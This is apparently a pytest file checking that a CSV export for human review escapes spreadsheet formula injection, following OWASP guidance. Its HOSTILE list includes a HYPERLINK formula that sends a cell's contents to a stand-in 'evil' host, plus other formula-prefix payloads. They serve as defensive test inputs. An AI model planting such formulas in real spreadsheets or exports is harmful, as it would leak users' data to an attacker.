"""The review CSV never hands a spreadsheet a formula (issue 19, Why 7; OWASP CSV injection)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from ragfunnel.analyzer.judges.people.calibration import read_labels
from ragfunnel.analyzer.judges.people.review import CSV_COLUMNS, write_sheet

HOSTILE = ['=HYPERLINK("http://evil/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def _row(i: int, text: str) -> dict[str, object]:
    return {
        "review_id": f"2026-W49-{i:02d}",
        "week": "2026-W49",
        "run_id": text,
        "trace_id": text,
        "question_id": text,
        "question": text,
        "context": [{"id": text, "text": "chunk"}],
        "answer": text,
        "claims": ["the claim"],
        "judges": {"offline": [{"claim": "the claim", "label": "supported", "missing": ""}]},
        "human_labels": [None],
        "claim_split_sensible": None,
        "notes": text,
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_prefixes_are_neutralised(tmp_path: Path, text: str) -> None:
    write_sheet([_row(1, text)], tmp_path / "s.csv", tmp_path / "s.jsonl")
    with (tmp_path / "s.csv").open(encoding="utf-8", newline="") as f:
        (row,) = list(csv.DictReader(f))
    for column in ("run_id", "trace_id", "question_id", "question", "answer", "notes"):
        assert row[column] == "'" + text, column
    assert row["context"] == f"[{text}] chunk"  # starts with '[': no formula
    # The JSON Lines file keeps the value as it is.
    (line,) = (tmp_path / "s.jsonl").read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["answer"] == text


def test_ordinary_cells_are_unchanged_and_labels_read_back(tmp_path: Path) -> None:
    write_sheet([_row(1, "plain answer"), _row(2, "=1+1")], tmp_path / "s.csv", None)
    text = (tmp_path / "s.csv").read_text(encoding="utf-8")
    assert ",plain answer," in text
    lines = text.splitlines()
    assert len(lines) == 3 and lines[0] == ",".join(CSV_COLUMNS)
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    for row in rows:
        row["human_labels"], row["claim_split_sensible"] = "s", "yes"
    with (tmp_path / "l.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=CSV_COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    assert [r.human for r in read_labels(tmp_path / "l.csv")] == [("supported",)] * 2
